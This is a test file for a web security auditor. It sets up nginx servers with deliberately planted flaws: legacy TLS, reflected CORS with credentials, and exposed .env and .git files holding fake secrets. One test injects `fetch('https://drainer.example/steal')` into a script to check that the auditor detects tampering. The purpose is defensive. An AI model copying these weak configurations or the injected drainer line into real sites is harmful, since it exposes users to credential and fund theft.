import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { webChecks } from '../../src/checks/web/index.js';
import type { Finding } from '../../src/model.js';
import { startAnvil, type ManagedNode } from '../../src/nodes/anvil.js';
import { audit } from '../services/servers.js';
import { runCli } from '../support/cli.js';
import { hasBinary, prerequisite } from '../support/prereq.js';
import { HARDENED_HEADERS, MOZILLA_INTERMEDIATE_CIPHERS } from './configs.js';
import { startEndlessHttpServer, type Fake } from './fake-servers.js';
import { makePki, type Pki } from './pki.js';
import { startNginx, startSServer, tempDir, type Served } from './servers.js';

const ready =
  prerequisite('nginx', hasBinary('/usr/sbin/nginx'), 'apt-get install nginx') &&
  prerequisite('openssl', hasBinary('openssl'), 'apt-get install openssl');

/** "check#result" for every finding, to assert on declared sub-results. */
const LIB = 'export const ok = 1;\n';
const bin = new URL('../../bin/chainaudit.js', import.meta.url).pathname;

const results = (fs: Finding[]) => fs.map((f) => `${f.checkId}#${f.result ?? ''}:${f.status}`);
const has = (fs: Finding[], checkId: string, result: string, status?: string) =>
  fs.some((f) => f.checkId === checkId && f.result === result && (!status || f.status === status));

describe.runIf(ready)('web checks on real nginx and openssl s_server', () => {
  const root = tempDir('web-checks');
  let pki: Pki;
  let weak: Served;
  let hardened: Served;
  let anvil: ManagedNode;
  const sservers: Record<string, Served> = {};
  let weakFindings: Finding[];
  let hardFindings: Finding[];

  beforeAll(async () => {
    pki = makePki(root);
    anvil = await startAnvil({ chainId: 31337 });
    const anvilPort = new URL(anvil.url).port;
    weak = await startNginx({
      cert: pki.rsa.cert,
      key: pki.rsa.key,
      protocols: 'TLSv1 TLSv1.1 TLSv1.2',
      ciphers: 'ALL:@SECLEVEL=0',
      server: `
    server_tokens on;
    add_header Set-Cookie "sessionid=s3cr3t-session; Path=/";
    add_header Access-Control-Allow-Origin $http_origin;
    add_header Access-Control-Allow-Credentials true;
    add_header Referrer-Policy unsafe-url;
    location /files/ { autoindex on; }
    location /rpc { proxy_pass http://127.0.0.1:${anvilPort}/; }`,
      http: `location / { } location /rpc { proxy_pass http://127.0.0.1:${anvilPort}/; }`,
      files: {
        'index.html':
          '<!doctype html><html><head><title>Wallet</title>' +
          '<script src="https://cdn.jsdelivr.net/npm/@ledgerhq/connect-kit-loader/dist/umd/index.min.js"></script>' +
          '<script src="/app.js"></script><link rel="stylesheet" href="http://cdn.example.net/site.css">' +
          '</head><body><form action="http://localhost/login" method="post"><input name="user">' +
          '<input type="password" name="password"></form><img src="http://cdn.example.net/logo.png"></body></html>',
        'app.js': 'console.log("wallet")\n//# sourceMappingURL=app.js.map\n',
        'app.js.map': '{"version":3,"sources":["src/wallet.ts"],"names":[],"mappings":"AAAA"}',
        '.env': 'DATABASE_URL=postgres://wallet:hunter2@db/wallet\nHOT_WALLET_KEY=0xdeadbeef\n',
        '.git/HEAD': 'ref: refs/heads/main\n',
        '.git/config': '[core]\n\trepositoryformatversion = 0\n',
        'files/export.csv': 'a,b\n',
        'lib.js': LIB,
      },
    });
    const sri = `sha384-${createHash('sha384').update(LIB).digest('base64')}`;
    const cdn = `https://localhost:${weak.port}`;
    hardened = await startNginx({
      cert: pki.withScts.cert,
      key: pki.withScts.key,
      ciphers: MOZILLA_INTERMEDIATE_CIPHERS,
      staple: pki.withScts.ocsp,
      server: `${HARDENED_HEADERS.replace("script-src 'self'", `script-src 'self' ${cdn}`)}
    add_header Set-Cookie "__Host-session=abc; Path=/; Secure; HttpOnly; SameSite=Lax" always;`,
      files: {
        'index.html':
          '<!doctype html><html><head><title>Wallet</title><script src="/app.js"></script>' +
          `<script src="${cdn}/lib.js" integrity="${sri}" crossorigin="anonymous"></script>` +
          '</head><body><form action="/login" method="post"><input type="password" name="password"></form></body></html>',
        'app.js': 'console.log("wallet")\n',
      },
    });
    for (const [name, args] of Object.entries({
      expired: ['-cert', pki.expired.cert, '-key', pki.expired.key, '-tls1_2'],
      weakKey: [
        '-cert',
        pki.rsa1024Sha1.cert,
        '-key',
        pki.rsa1024Sha1.key,
        '-cipher',
        'DEFAULT:@SECLEVEL=0',
        '-no_tls1_3',
      ],
      wrongHost: ['-cert', pki.wrongHost.cert, '-key', pki.wrongHost.key, '-tls1_3'],
      selfSigned: ['-cert', pki.selfSigned.cert, '-key', pki.selfSigned.key, '-tls1_2', '-client_renegotiation'],
    }))
      sservers[name] = await startSServer(args);

    weakFindings = await audit(
      [
        {
          id: 'weak',
          kind: 'web',
          url: `https://localhost:${weak.port}/`,
          urls: [`http://localhost:${weak.httpPort}/`],
          caFile: pki.caCert,
        },
      ],
      webChecks,
    );
    hardFindings = await audit(
      [
        {
          id: 'hardened',
          kind: 'web',
          url: `https://localhost:${hardened.port}/`,
          urls: [`http://localhost:${hardened.httpPort}/`],
          caFile: pki.caCert,
        },
      ],
      webChecks,
    );
  }, 300_000);

  afterAll(async () => {
    await Promise.all([weak?.stop(), hardened?.stop(), ...Object.values(sservers).map((s) => s.stop())]);
    await anvil?.stop();
    rmSync(root, { recursive: true, force: true });
  });

  it('reports every planted weakness of the weak front end', () => {
    const expected: [string, string][] = [
      ['web.tls.protocols', 'legacy-protocol'],
      ['web.tls.cipher-suites', 'insecure-suite'],
      ['web.tls.forward-secrecy', 'no-forward-secrecy'],
      ['web.tls.mozilla', 'non-conforming'],
      ['web.http.https-redirect', 'plaintext'],
      ['web.http.hsts', 'missing'],
      ['web.http.csp', 'missing'],
      ['web.http.framing', 'missing'],
      ['web.http.nosniff', 'missing'],
      ['web.http.referrer-policy', 'unsafe'],
      ['web.http.cookies', 'session-not-secure'],
      ['web.http.cookies', 'session-not-httponly'],
      ['web.http.cors', 'reflected-with-credentials'],
      ['web.http.cors', 'null-with-credentials'],
      ['web.http.mixed-content', 'active-mixed'],
      ['web.http.mixed-content', 'passive-mixed'],
      ['web.http.plaintext-credentials', 'posts-over-http'],
      ['web.http.plaintext-credentials', 'form-over-http'],
      ['web.http.version-disclosure', 'disclosed'],
      ['web.http.directory-listing', 'listing'],
      ['web.http.exposed-files', 'git'],
      ['web.http.exposed-files', 'env'],
      ['web.http.exposed-files', 'source-map'],
      ['web.http.observatory', 'poor'],
      ['web.supply-chain.inventory', 'no-sri'],
      ['web.supply-chain.inventory', 'insecure-origin'],
      ['web.rpc.exposed', 'exposed'],
      ['web.rpc.exposed', 'node-finding'],
      ['web.waf.detection', 'not-detected'],
    ];
    const missing = expected.filter(([c, r]) => !has(weakFindings, c, r));
    expect(missing, results(weakFindings).join('\n')).toEqual([]);
    expect(weakFindings.filter((f) => f.status === 'error').map((f) => `${f.checkId}: ${f.message}`)).toEqual([]);
    // The .env contents never reach the evidence.
    expect(JSON.stringify(weakFindings)).not.toContain('hunter2');
    expect(JSON.stringify(weakFindings)).not.toContain('s3cr3t-session');
    // The node checks ran on the JSON-RPC nginx proxies: anvil's unlocked accounts are seen through it.
    expect(
      weakFindings.some((f) => f.result === 'node-finding' && f.message.includes('evm.rpc.unlocked-accounts')),
    ).toBe(true);
  });

  it('passes the hardened front end on every check that applies', () => {
    const expected: [string, string][] = [
      ['web.tls.protocols', 'modern-only'],
      ['web.tls.cipher-suites', 'strong-only'],
      ['web.tls.forward-secrecy', 'forward-secrecy'],
      ['web.tls.key-exchange', 'strong'],
      ['web.tls.compression', 'no-compression'],
      ['web.tls.renegotiation', 'secure'],
      ['web.tls.fallback-scsv', 'downgrade-refused'],
      ['web.tls.mozilla', 'intermediate'],
      ['web.cert.trust', 'trusted'],
      ['web.cert.hostname', 'match'],
      ['web.cert.validity', 'valid'],
      ['web.cert.key', 'strong-key'],
      ['web.cert.signature', 'strong-signature'],
      ['web.cert.ocsp-stapling', 'stapled'],
      ['web.cert.transparency', 'scts-present'],
      ['web.http.https-redirect', 'redirects'],
      ['web.http.hsts', 'ok'],
      ['web.http.csp', 'effective'],
      ['web.http.framing', 'protected'],
      ['web.http.nosniff', 'nosniff'],
      ['web.http.referrer-policy', 'private'],
      ['web.http.cookies', 'ok'],
      ['web.http.cors', 'restricted'],
      ['web.http.mixed-content', 'none'],
      ['web.http.plaintext-credentials', 'protected'],
      ['web.http.version-disclosure', 'hidden'],
      ['web.http.directory-listing', 'no-listing'],
      ['web.http.exposed-files', 'none-exposed'],
      ['web.http.observatory', 'good'],
      ['web.supply-chain.inventory', 'pinned'],
      ['web.supply-chain.inventory', 'same-origin'],
      ['web.rpc.exposed', 'not-exposed'],
    ];
    const missing = expected.filter(([c, r]) => !has(hardFindings, c, r, 'pass'));
    expect(missing, results(hardFindings).join('\n')).toEqual([]);
    const bad = hardFindings.filter((f) => f.status === 'fail' || f.status === 'error');
    expect(bad.map((f) => `${f.checkId}#${f.result}: ${f.message}`)).toEqual([]);
    for (const id of ['web.cert.caa', 'web.tls.sm-crypto'])
      expect(hardFindings.find((f) => f.checkId === id)?.status, id).toBe('not-applicable');
    expect(has(hardFindings, 'web.supply-chain.changes', 'baseline', 'not-applicable')).toBe(true);
    expect(has(hardFindings, 'web.waf.detection', 'not-detected', 'warn')).toBe(true);
  });

  it('reports planted certificate flaws on openssl s_server', async () => {
    const at = (name: string) => ({ id: name, kind: 'web', url: `https://localhost:${sservers[name].port}/` });
    const certChecks = webChecks.filter(
      (c) => c.meta.id.startsWith('web.cert.') || c.meta.id === 'web.tls.renegotiation',
    );
    const found = await audit(['expired', 'weakKey', 'wrongHost', 'selfSigned'].map(at), certChecks);
    const on = (t: string) => found.filter((f) => f.targetId === t);
    expect(has(on('expired'), 'web.cert.validity', 'expired', 'fail')).toBe(true);
    expect(has(on('weakKey'), 'web.cert.key', 'weak-key', 'fail')).toBe(true);
    expect(has(on('weakKey'), 'web.cert.signature', 'weak-signature', 'fail')).toBe(true);
    expect(has(on('weakKey'), 'web.cert.validity', 'long-lifespan', 'warn')).toBe(true);
    expect(has(on('wrongHost'), 'web.cert.hostname', 'mismatch', 'fail')).toBe(true);
    expect(has(on('selfSigned'), 'web.cert.trust', 'untrusted', 'fail')).toBe(true);
    expect(has(on('selfSigned'), 'web.tls.renegotiation', 'client-initiated', 'fail')).toBe(true);
    expect(on('wrongHost').find((f) => f.checkId === 'web.tls.renegotiation')?.status).toBe('not-applicable');
  });

  it('TLS checks run on the https RPC URL of a node target and are not applicable on http', () => {
    const dir = tempDir('node-tls');
    const scope = join(dir, 'scope.yaml');
    writeFileSync(
      scope,
      `name: node tls\ntargets:\n  - id: proxied\n    kind: evm-node\n    rpc: https://localhost:${weak.port}/rpc\n  - id: direct\n    kind: evm-node\n    rpc: ${anvil.url}\n`,
    );
    // The node client verifies certificates; the test CA is made known to it the way an operator would.
    const r = spawnSync(
      process.execPath,
      [bin, 'audit', scope, '--only', 'web.tls.*', '--no-store', '-q', '-f', 'json', '-o', join(dir, 'out')],
      { env: { ...process.env, NODE_EXTRA_CA_CERTS: pki.caCert }, encoding: 'utf8', timeout: 120_000 },
    );
    const report = JSON.parse(readFileSync(join(dir, 'out', 'report.json'), 'utf8')) as { findings: Finding[] };
    rmSync(dir, { recursive: true, force: true });
    expect(r.status === 0 || r.status === 1, r.stderr).toBe(true);
    expect(
      has(
        report.findings.filter((f) => f.targetId === 'proxied'),
        'web.tls.protocols',
        'legacy-protocol',
        'fail',
      ),
    ).toBe(true);
    const direct = report.findings.filter((f) => f.targetId === 'direct');
    expect(direct.length).toBeGreaterThan(0);
    expect(direct.every((f) => f.status === 'not-applicable')).toBe(true);
  });

  it('a changed script body is reported on the next run (history store), and `chainaudit web` writes reusable reports', async () => {
    const db = join(root, 'history.db');
    const out = join(root, 'web-report');
    const args = [
      'web',
      `https://localhost:${hardened.port}/`,
      '--db',
      db,
      '-o',
      out,
      '-f',
      'json',
      '--only',
      'web.supply-chain.*',
      '-q',
    ];
    const first = await runCli(args);
    expect(first.code, first.stderr).toBe(0);
    writeFileSync(
      join(hardened.dir, 'www', 'app.js'),
      'console.log("wallet"); fetch("https://drainer.example/steal")\n',
    );
    const second = await runCli(args);
    expect(second.code, second.stderr).toBe(0);
    const report = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8')) as { findings: Finding[] };
    const changed = report.findings.filter((f) => f.checkId === 'web.supply-chain.changes');
    expect(changed.some((f) => f.result === 'changed' && f.status === 'fail' && f.message.includes('/app.js'))).toBe(
      true,
    );
    expect(changed.some((f) => f.result === 'unchanged' && f.message.includes('/lib.js'))).toBe(true);
    expect(readFileSync(join(out, 'scope.yaml'), 'utf8')).toContain('kind: web');
  });
});

describe('bad input and hostile HTTP servers', () => {
  let endless: Fake;
  beforeAll(async () => {
    endless = await startEndlessHttpServer();
  });
  afterAll(async () => endless?.stop());

  it('`chainaudit web` refuses a URL that is not http(s) with exit code 2', async () => {
    const r = await runCli(['web', 'ftp://example.com/', '--no-store', '-q']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/not an http:\/\/ or https:\/\/ URL/);
    expect((await runCli(['web', 'not a url', '--no-store', '-q'])).code).toBe(2);
  });

  it('an endless body is cut at the size bound and the HTTP checks still end', async () => {
    const started = performance.now();
    const found = await audit(
      [{ id: 'endless', kind: 'web', url: `http://127.0.0.1:${endless.port}/` }],
      webChecks.filter((c) =>
        ['web.http.csp', 'web.http.hsts', 'web.http.exposed-files', 'web.supply-chain.inventory'].includes(c.meta.id),
      ),
    );
    expect(performance.now() - started).toBeLessThan(60_000);
    expect(found.find((f) => f.checkId === 'web.http.csp')?.result).toBe('missing');
    expect(found.find((f) => f.checkId === 'web.http.hsts')?.status).toBe('not-applicable');
    expect(found.every((f) => f.status !== 'pass' || f.checkId === 'web.http.exposed-files')).toBe(true);
  });
});
